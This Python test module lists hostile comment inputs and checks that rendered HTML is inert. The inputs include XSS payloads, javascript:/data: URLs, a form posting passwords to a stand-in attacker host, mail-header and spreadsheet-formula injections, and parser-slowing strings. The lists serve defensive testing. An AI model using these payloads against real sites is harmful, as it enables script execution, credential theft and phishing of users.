"""What hostile and merely strange people write into a comment, and how to tell that none of it runs or loads.

For every place where a comment's text comes out: pages, feeds, mails, the desk, the export.
"""

import re
from html.parser import HTMLParser

_SCRIPT = "alert(1)"

_QUOTES = [
    "'",
    '"',
    "`",
    "'\"`><x>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "</textarea>",
]
_TAGS = [
    f"<script>{_SCRIPT}</script>",
    f"</script><script>{_SCRIPT}</script>",
    f"<ScRiPt\n>{_SCRIPT}</sCrIpT >",
    "<script src=//mallory.example></script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=1>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=//mallory.example><input name=password><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//mallory.example'>",
    "<link rel=stylesheet href=//mallory.example/x.css>",
    "<base href=//mallory.example/>",
    "<style>@import '//mallory.example/x.css'; body{display:none}</style>",
    "<p style='position:fixed;inset:0;background:url(//mallory.example)'>x</p>",
    "<table background=//mallory.example><tr><td>x</table>",
    "<p class=owner id=comments>x</p>",
    "<template><script>alert(1)</script></template>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<b><i><a href=x><b></i></a></b></i>",
    "<table><p><table><p>",
    "<a title='<b'>x</a>",
    "<pre>\n\n\nx</pre>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\xbcscript\xbealert(1)\xbc/script\xbe",
    "＜script＞alert(1)＜/script＞",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#x3c;/script&#x3E;",
    "&amp;lt;script&amp;gt;alert(1)",
]
_ENDS = [
    "<!--",
    "-->",
    "<!--><script>alert(1)</script>-->",
    "--!><img src=x onerror=alert(1)>",
    "]]>",
    "<![CDATA[",
    "]]><script>alert(1)</script><![CDATA[",
    "<?php x ?>",
    "<!DOCTYPE html>",
    "</html>",
    "</p></div></body>",
    "{{ 7*7 }}",
    "{% raw %}",
    "${7*7}",
    "%(name)s",
    "{0}",
    "*|EMAIL|*",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-- x",
]
_ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "  jAvA\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#09;script:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61vascript:alert(1)",
    "javascript&#58;alert(1)",
    "java\\script:alert(1)",
    "\x01javascript:alert(1)",
    "javascript:/*--></title></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "javascript://example.org/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/png;base64,AAAA",
    "vbscript:msgbox(1)",
    "view-source:https://example.org",
    "file://localhost/etc/passwd",
    "blob:https://example.org/1",
    "feed:https://example.org",
    "intent://x#Intent;scheme=http;end",
    "//mallory.example",
    "///mallory.example",
    "\\\\mallory.example",
    "/\\mallory.example",
    "https:\\\\mallory.example",
    "https:mallory.example",
    "https:///mallory.example",
    "https://ada@mallory.example/",
    "https://example.org:443@mallory.example/",
    "https://example.org\\@mallory.example/",
    "https://example.org%40mallory.example/",
    "https://",
    "https://?x",
    "https://[::1",
    "https://exa mple.org/",
    "https://xn--/",
    "https://еxample.org/",
    "https://example。org/",
    "https://exam\u202eple.org/",
    'https://example.org/" onclick="alert(1)',
    "https://example.org/' onclick='alert(1)",
    "https://example.org/><script>alert(1)</script>",
    "https://example.org/\r\nBcc: olga@example.org",
    "mailto:ada@example.org?bcc=ben@example.org",
    'mailto:ada@example.org" onclick="alert(1)',
    "/unsubscribe",
    "#comments",
    "?token=1",
]
_IN_LINKS = [
    form.format(address)
    for address in _ADDRESSES
    for form in (
        "[x]({})",
        "[x](<{}>)",
        "![x]({})",
        "<{}>",
        '[x](https://example.org "{}")',
        "<a href='{}'>x</a>",
    )
]
_LINKS = [
    "[a](https://example.org)",
    "![a](https://mallory.example/pixel.gif)",
    "[![a](https://mallory.example/pixel.gif)](javascript:alert(1))",
    "[![a](javascript:alert(1))](https://example.org)",
    "[a [b](https://b.example) c](https://c.example)",
    "[a][1]\n\n[1]: javascript:alert(1)",
    "[`](https://example.org)`<script>alert(1)</script>",
    "[a](https://example.org`<img src=x onerror=alert(1)>`)",
    "[<script>alert(1)</script>](https://example.org)",
    "[a](https://example.org '\"><script>alert(1)</script>')",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```" onclick=alert(1) class="\nx\n```',
    "    <script>alert(1)</script>",
    "> <script>\n> alert(1)\n> </script>",
    "- <img src=x onerror=alert(1)>",
    "# <svg onload=alert(1)>",
    "| a | b |\n|---|---|\n| <script> | x |",
    "https://example.org/<script>alert(1)</script>",
    'https://example.org/"onclick=alert(1)',
    "HTTPS://EXAMPLE.ORG",
]
_LINES = ["Ada\r\nBcc: mallory@example.org", "Ada\nSubject: x", "Ada%0d%0aBcc:x", "=?utf-8?q?a=0ABcc:_x?="]
_LINES += ["\r\n.\r\n", "From x"]
_CHARACTERS = [
    "\0",
    "a\0b",
    "\x01\x08\x0b\x0c\x1b[31m\x7f\x85\x9b",
    "\ud800",
    "a\udfffb",
    "\ud83d \ude00",
    "\ufffe\uffff",
    "abc\u202egpj.exe",
    "\u2066\u2067\u2069",
    "\u200b",
    "A\u200bda",
    "\u200b\u200c\u200d\u2060\ufeff",
    "\u2028\u2029",
    "\u00a0\u3000",
    "e\u0301 \u00e9 Z" + "\u0300" * 20,
    "😀👩🏽\u200d🚀🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "𝕬𝖉𝖆 𠜎",
    "\U0010ffff",
    "א״ב العربية",
    "",
    " ",
    "\n\n\n",
    "0",
]
_LONG = [
    "x" * 65_536,
    "x " * 32_768,
    "😀" * 65_536,
    "&" * 65_536,
    "\n" * 65_536,
    "https://example.org/" + "x" * 9_000,
]
_REPEATED = r"""
>|> |[|(|![|[](|*|_|~~|`|<|&|- |1. |\|<b>|<ul><li>|- - a$|*a|**a |*_|[a](b |-$+$|http://a |> a$$|# a$|</p>|<svg>
|<a href=x>|[a](b "|<b></i>|[a\](
"""
_TABLE = "".join(f"[{n}]: https://example.org/{n}\n" for n in range(300))

_UNITS = [unit.replace("$", "\n") for unit in _REPEATED.replace("\n", "").split("|")]
SLOW = [(unit * 10_000)[:10_000] for unit in _UNITS] + [_TABLE[:9_000] + "\n" + "[1] [2] " * 100]
# Readers of HTML take time in the square, and in the cube, of these.
SLOW += ["".join(f"<i a{n}=1><p>" for n in range(700)), '<svg a="<">' * 900]
PAYLOADS = [*_QUOTES, *_TAGS, *_ENDS, *_ADDRESSES, *_IN_LINKS, *_LINKS, *_LINES, *_CHARACTERS, *_LONG, *SLOW]
PAYLOADS += [">" * 100_000, "*" * 100_000, "[" * 100_000, _TABLE * 10]

# For a browser, which reads a whole page of them: without what is only long, and each address in all its forms.
_ALL_FORMS = ["\n\n".join([address, *_IN_LINKS[6 * n : 6 * n + 6]]) for n, address in enumerate(_ADDRESSES)]
SHORT = [*_TAGS, *_QUOTES, *_ENDS, *_ALL_FORMS, *_LINKS, *_LINES, *_CHARACTERS]
# One of each kind.
FEW = [*_TAGS[:8], *_QUOTES[4:], _ENDS[6], _ALL_FORMS[0]]

_HARMLESS = frozenset(
    """
    a abbr article aside b blockquote body br cite code dd del details div dl dt em figcaption figure footer h1 h2
    h3 h4 head header hr html i li main nav ol p pre q s section small span strong sub summary sup table tbody td
    th thead time title tr u ul
    """.split()  # noqa: SIM905  a list of fifty is read better as words
)
_PLAIN = re.compile(
    r"aria-[a-z]+|class|cite|colspan|datetime|dir|href|id|lang|open|rel|role|rowspan|scope|start|title"
)
_SCHEMED = re.compile(r"[a-z][a-z0-9+.-]*:")


def is_inert(html: str) -> list[str]:
    """A sentence for everything in `html` that could run, load or send something by itself; none when it is inert.

    Links may lead to http, https, mailto and to places of the page's own site.
    """
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.found


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _HARMLESS:
            self.found.append(f"<{tag}> is an element that may run or load.")
        for name, value in attrs:
            if not _PLAIN.fullmatch(name):
                self.found.append(f"{name} on <{tag}> may run or load.")
            elif name in ("href", "cite"):
                self._read_address(value or "")

    def _read_address(self, address: str) -> None:
        # As a browser reads it: without controls and blanks at the ends, without tabs and line ends anywhere.
        seen = re.sub(r"[\t\n\r]", "", address).strip("".join(map(chr, range(33)))).replace("\\", "/").lower()
        scheme = _SCHEMED.match(seen)
        if scheme and scheme[0] not in ("http:", "https:", "mailto:"):
            self.found.append(f"{scheme[0]} is a scheme that may run or load.")
        if seen.startswith("//"):
            self.found.append(f"{address} leads to another site without saying so.")

    def handle_comment(self, data: str) -> None:
        self.found.append("A comment may end where nobody expects it.")

    def handle_decl(self, decl: str) -> None:
        if decl.lower() != "doctype html":
            self.found.append(f"<!{decl[:20]}> declares something.")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"<![{data[:20]}]]> declares something.")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data[:20]}> instructs somebody.")
